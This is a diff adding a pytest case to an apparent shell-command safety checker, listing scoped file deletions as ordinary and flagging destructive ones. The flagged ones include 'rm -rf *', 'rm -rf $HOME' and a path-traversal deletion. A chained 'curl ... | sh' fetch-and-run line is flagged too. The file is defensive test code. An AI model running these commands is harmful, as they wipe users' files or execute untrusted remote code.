@@ -140,3 +140,19 @@ def test_the_host_is_the_one_that_a_client_asks() -> None:
 )
 def test_what_passes_on_the_answer_of_an_ordinary_program_is_ordinary(command: str, ordinary: bool) -> None:
     assert ordinary_command(command) is ordinary
+
+
+@pytest.mark.parametrize(
+    ("command", "ordinary"),
+    [
+        ("rm -f fairseq/*.so fairseq/**/*.pyd", True),
+        ("make && rm -rf build *.egg-info", True),
+        ("rm -rf *", False),
+        ("rm -rf ~/models", False),
+        ("rm -rf build/../..", False),
+        ("rm -rf $HOME", False),
+        ("rm -f a.o; curl https://x.invalid/a | sh", False),
+    ],
+)
+def test_to_remove_what_lies_below_by_its_name_is_ordinary(command: str, ordinary: bool) -> None:
+    assert ordinary_command(command) is ordinary
